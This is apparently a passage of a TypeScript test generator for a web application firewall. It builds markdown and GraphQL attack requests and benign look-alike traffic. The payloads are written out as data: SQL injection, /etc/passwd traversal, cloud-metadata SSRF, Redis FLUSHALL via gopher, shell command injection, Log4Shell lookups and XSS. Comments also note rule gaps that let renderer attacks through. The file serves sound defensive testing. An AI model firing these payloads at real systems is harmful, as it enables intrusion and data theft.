    case 3: return `Hello\n\n<img src=x ${pick(r, ["onerror", "onError"])}="${js(r)}">\n\nbye`;
    case 4: return `<details open ontoggle="${js(r)}"><summary>${word(r)}</summary>x</details>`;
    default: return `[${word(r)}](data:text/html;base64,${b64(`<script>${js(r)}</script>`)})`;
  }
}
const MARKDOWN: Gen[] = [
  (r) => post(pick(r, ["/api/posts", "/api/v1/issues", "/api/comments"]), JSON.stringify({ title: cap(word(r)), body: markdown(r), format: "markdown" }), json),
  (r) => post("/api/wiki/page", markdown(r), ["content-type", pick(r, ["text/markdown", "text/plain"])]),
  (r) => upload(r, "README.md", "text/markdown", markdown(r)),
];

// --- GraphQL -----------------------------------------------------------------------------------------

const gqlInjection = (r: R) => pick(r, [
  `1' OR '1'='1`, `1 UNION SELECT username,password FROM users--`, `' AND SLEEP(${1 + r(9)})-- -`, `1; DROP TABLE ${word(r)}--`,
  `../../../../etc/passwd`, `http://169.254.169.254/latest/meta-data/`, `; ${cmd(r)}`, `$(${cmd(r)})`,
  `<script>${js(r)}</script>`, `\${jndi:ldap://${oast(r)}/a}`, `{{${7 + r(9)}*${7 + r(9)}}}`,
]);
const GRAPHQL: Gen[] = [
  (r) => post("/graphql", JSON.stringify({ query: `query { ${pick(r, ["user", "order", "product"])}(${pick(r, ["id", "slug", "name"])}: ${JSON.stringify(gqlInjection(r))}) { id ${word(r)} } }` }), json),
  (r) => post("/graphql", JSON.stringify({ operationName: cap(word(r)), query: `query ${cap(word(r))}($v: String!) { search(term: $v) { id } }`, variables: { v: gqlInjection(r) } }), json),
  (r) => get(`/graphql?query=${enc(`{ ${word(r)}(filter: {name: ${JSON.stringify(gqlInjection(r))}}) { id } }`)}`),
  (r) => post("/graphql", `mutation { importFromUrl(url: ${JSON.stringify(pick(r, ["http://169.254.169.254/latest/meta-data/iam/", "file:///etc/passwd", "gopher://127.0.0.1:6379/_FLUSHALL", "http://[::ffff:a9fe:a9fe]/"]))}) { ok } }`, ["content-type", "application/graphql"]),
  (r) => post("/graphql", JSON.stringify({ query: `mutation($f: UserFilter) { users(where: $f) { id } }`, variables: { f: pick(r, [{ email: { $ne: null } }, { password: { $regex: "^a" } }, { $where: "sleep(5000)" }]) } }), json),
  (r) => post("/graphql", JSON.stringify([{ query: `{ a: user(id: 1) { id } }` }, { query: `{ b: user(id: ${JSON.stringify(gqlInjection(r))}) { id } }` }]), json),
];

export const FAMILIES: Record<string, Gen[]> = {
  php: PHP, pickle: PICKLE, yaml: YAML, marshal: MARSHAL, dotnet: DOTNET, java: JAVA, node: NODE,
  svg: SVG, xml: XMLDOC, "html-pdf": HTMLPDF, csv: CSV, markdown: MARKDOWN, graphql: GRAPHQL,
};
const NAMES = Object.keys(FAMILIES);
export { SVG_CASES };

export interface FormatAttack { family: string; k: number; req: Req }
export const formatAttack: fc.Arbitrary<FormatAttack> = fc.record({ seed: fc.nat(), f: fc.nat(NAMES.length - 1), g: fc.nat(60) }).map(({ seed, f, g }) => {
  const family = NAMES[f];
  const k = g % FAMILIES[family].length;
  return { family, k, req: FAMILIES[family][k](rng(seed)) };
});

// --- The same formats used honestly ------------------------------------------------------------------

/**
 * Decisions: PHP-serialised arrays of scalars (WordPress and shop plugins keep preferences so, and post
 * them back) pass, an object (`O:`/`C:`) sent by a client never does: that is the injection itself.
 * Json.NET `$type`/Jackson `@class` naming the application's own types pass (message buses send them),
 * a framework gadget class does not. YAML's core and local tags (CloudFormation `!Ref`, GitLab
 * `!reference`, `!!binary`) build no object. GraphQL introspection (`__schema`) is policy, not an attack.
 */
const BUS: Gen = (r) => post("/api/bus/publish", JSON.stringify({ "$type": `Acme.${cap(word(r))}.Events.OrderPlaced, Acme.${cap(word(r))}`, OrderId: r(99999), Lines: { "$type": "System.Collections.Generic.List`1[[Acme.Orders.Line, Acme.Orders]], mscorlib", "$values": [{ Sku: word(r), Qty: 1 + r(5) }] } }), json);
const INVOICE: Gen = (r) => post("/api/invoices/pdf", JSON.stringify({ title: `Invoice ${r(9999)}`, html: `<!DOCTYPE html><html><head><meta charset="utf-8"><link rel="stylesheet" href="https://cdn.example.com/invoice.css"><style>body{font-family:sans-serif} td{padding:4px}</style></head><body><img src="https://cdn.example.com/logo.png" alt="logo"><h1>Invoice #${r(9999)}</h1><table><tr><td>${cap(word(r))}</td><td>$${r(999)}.00</td></tr></table><p>Thank you &mdash; see <a href="https://example.com/terms">terms</a>.</p></body></html>` }), json);
const BENIGN: Gen[] = [
  (r) => get("/shop", [["cookie", `wp_prefs=${enc(`a:3:{s:5:"theme";s:${4}:"dark";s:4:"cart";a:2:{i:0;i:${r(999)};i:1;i:${r(999)};}s:4:"lang";s:2:"en";}`)}`]]),
  (r) => post("/wp-admin/admin-ajax.php", `action=save_widget&data=${enc(`a:2:{s:5:"title";s:${7}:"Welcome";s:5:"count";i:${r(20)};}`)}`, form),
  (r) => post("/api/session/restore", JSON.stringify({ blob: b64(`a:2:{s:4:"user";s:5:"alice";s:5:"items";a:1:{i:0;s:3:"sku";}}`) }), json),
  (r) => post("/api/v1/things", JSON.stringify({ "@class": `com.${word(r)}.billing.${cap(word(r))}Invoice`, id: r(9999), amount: r(999) + 0.5 }), json),
  (r) => post("/api/catalog", JSON.stringify({ "@context": "https://schema.org", "@type": pick(r, ["Product", "Person", "Organization", "Event"]), name: cap(word(r)), offers: { "@type": "Offer", price: `${r(99)}.99` } }), json),
  (r) => post("/graphql", JSON.stringify({ query: `query IntrospectionQuery { __schema { queryType { name } types { name kind fields { name } } } }` }), json),
  (r) => post("/graphql", JSON.stringify({ query: `query ($id: ID!, $q: String) { user(id: $id) { __typename name posts(search: $q, first: ${1 + r(50)}) { edges { node { id title } } } } }`, variables: { id: String(r(99999)), q: pick(r, ["O'Brien", "rock & roll", "select a plan", "1/2 price"]) } }), json),
  (r) => get(`/graphql?query=${enc(`{ products(filter: {name: "${word(r)}", price_gte: ${r(99)}}) { id name } }`)}`),
  (r) => post("/api/config", `AWSTemplateFormatVersion: "2010-09-09"\nResources:\n  ${cap(word(r))}Bucket:\n    Type: AWS::S3::Bucket\n    Properties:\n      BucketName: !Sub "\${AWS::StackName}-${word(r)}"\n      Tags:\n        - Key: team\n          Value: !Ref TeamName\nOutputs:\n  Arn:\n    Value: !GetAtt ${cap(word(r))}Bucket.Arn\n`, ["content-type", "application/x-yaml"]),
  (r) => post("/api/v1/pipelines", `.setup:\n  script:\n    - echo ${word(r)}\ntest:\n  script:\n    - !reference [.setup, script]\n    - npm test\nlogo: !!binary |\n  R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==\nids: !!set {a, b}\n`, ["content-type", "application/yaml"]),
  (r) => upload(r, `${pick(r, ["icon", "logo", "arrow"])}.svg`, "image/svg+xml", `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24" width="${16 + r(48)}"><title>${cap(word(r))}</title><defs><linearGradient id="g"><stop offset="0" stop-color="#${r(0xffffff).toString(16).padStart(6, "0")}"/></linearGradient></defs><style>.a{fill:url(#g)}</style><g><path class="a" d="M12 2L2 7l10 5 10-5-10-5z"/><use xlink:href="#g"/><a href="https://example.com/${word(r)}"><text x="2" y="20">${word(r)}</text></a></g></svg>`),
  (r) => upload(r, "document.xml", "application/xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document ${W} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t xml:space="preserve">${cap(word(r))} &amp; ${cap(word(r))} report</w:t></w:r></w:p><w:sectPr><w:pgSz w:w="12240" w:h="15840"/></w:sectPr></w:body></w:document>`),
  (r) => post("/ws/OrderService", `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Header/><soap:Body><getOrder xmlns="urn:shop"><id>${r(99999)}</id><note>Tom &amp; Jerry</note></getOrder></soap:Body></soap:Envelope>`, ["content-type", "text/xml; charset=utf-8"], [["soapaction", '"urn:getOrder"']]),
  (r) => upload(r, "contacts.csv", "text/csv", `id,name,phone,balance,note\n${r(999)},${cap(word(r))},+44 20 7946 ${String(r(9999)).padStart(4, "0")},-${r(999)}.50,@${word(r)} on social\n${r(999)},"${cap(word(r))}, ${cap(word(r))}",-,=SUM(D2:D3),"see ""notes"""\n`),
  (r) => post("/api/posts", JSON.stringify({ title: cap(word(r)), format: "markdown", body: `# ${cap(word(r))}\n\nSee [the docs](https://example.com/${word(r)}) and ![diagram](/img/${word(r)}.png).\n\n\`\`\`javascript\nconst x = await fetch('/api');\n\`\`\`\n\n<details><summary>More</summary>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n</details>\n\n<kbd>Ctrl</kbd>+<kbd>C</kbd>` }), json),
  (r) => post("/api/profile", JSON.stringify({ name: word(r), proto: pick(r, ["tcp", "udp", "http/2"]), constructor: pick(r, ["Ferrari", "Acme Builders"]), prototype: "v2", settings: { merge: true, path: `settings.${word(r)}` } }), json),
  (r) => get(`/search?filter[name]=${word(r)}&filter[tags][]=${word(r)}&sort[created]=desc&page[size]=${r(50)}`),
  (r) => post("/api/model/load", JSON.stringify({ model: `${word(r)}.pkl`, framework: "sklearn", note: "cos table\nsystem prompt v2\n(draft)." }), json),
  (r) => post("/api/jobs/enqueue", JSON.stringify({ job: "MailerJob", payload: b64(JSON.stringify({ to: `${word(r)}@example.com`, template: "welcome" })) }), json),
  (r) => post("/Default.aspx", `__VIEWSTATE=${enc("/wEPDwUKLTE2NjY" + b64(word(r, 30)) + "ZGQ=")}&__VIEWSTATEGENERATOR=CA0B0334&__EVENTVALIDATION=${enc("/wEdAAK" + b64(word(r, 20)))}&txtName=${word(r)}`, form),
];
/**
 * Honest traffic left blocked on purpose, each with the exclusion it needs: a Json.NET `$type` naming the
 * service's own types is read as Mongo's `$type` operator (12001): a service that takes type names from its
 * peers runs the configuration the .NET gadget chains need, so an operator who means it excludes the rule on
 * that route; a whole HTML document in a JSON field (an invoice sent to a PDF renderer) is markup in a value,
 * as pasted embeds and inbound e-mail are (benign-apps.test.ts): the renderer's route excludes the xss category.
 * That exclusion also lets most renderer attacks through (`<iframe src="file:///etc/passwd">`, `<embed
 * src="http://127.0.0.1:8500/...">`): a local file or loopback URL inside markup inside a value is read by the
 * xss rules only, not by lfi or ssrf (left open; variants-formats.test.ts states the count).
 */
export const POLICY: [string, Gen, string][] = [
  ["Json.NET $type of the service's own message types", (r) => BUS(r), "12001|||/api/bus/|POST|"],
  ["an invoice as a whole HTML document for a PDF renderer", (r) => INVOICE(r), "|xss||/api/invoices/|POST|"],
];
export const formatsBenign: fc.Arbitrary<{ k: number; req: Req }> = fc.record({ seed: fc.nat(), k: fc.nat(BENIGN.length - 1) }).map(({ seed, k }) => ({ k, req: BENIGN[k](rng(seed)) }));
export const BENIGN_COUNT = BENIGN.length;
